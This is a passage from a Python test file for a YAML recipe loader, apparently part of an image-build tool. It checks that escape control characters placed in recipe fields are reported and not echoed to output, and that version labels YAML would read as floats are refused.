        "notes": BASE.replace("    ref: v1.0\n", f"    ref: v1.0\n    notes: {evil}\n"),
        "reason": BASE + f"obsolete_patches: [{{name: a, reason: {evil}}}]\n",
        "gpu_check": BASE.replace("  imports: [demo]\n", f"  imports: [demo]\n  gpu_check: {evil}\n"),
    }[field]
    d = recipe_dir(tmp_path, text)
    code, out, err = run("recipes", "--recipe-dir", str(d))
    line = one_error(code, err)
    assert "control character \\x1b" in line and "\x1b" not in out


def test_a_version_label_written_as_a_float_is_refused(tmp_path):
    # `1.10:` is the number 1.1 to YAML: the label would silently change.
    from imagegen.errors import RecipeError

    (tmp_path / "r.yaml").write_text(
        "schema: 1\nname: r\nsource: {git: 'https://example.com/r.git'}\nversions:\n"
        "  1.10: {ref: v1.10, commit: '0123456789abcdef0123456789abcdef01234567', archs: ['9.0']}\n"
        "arch: {env: TORCH_CUDA_ARCH_LIST, style: torch}\nsmoke: {imports: [r]}\n")
    with pytest.raises(RecipeError, match=r"version label 1\.1 is a number in YAML .*quote it"):
        load_recipe_file(tmp_path / "r.yaml")
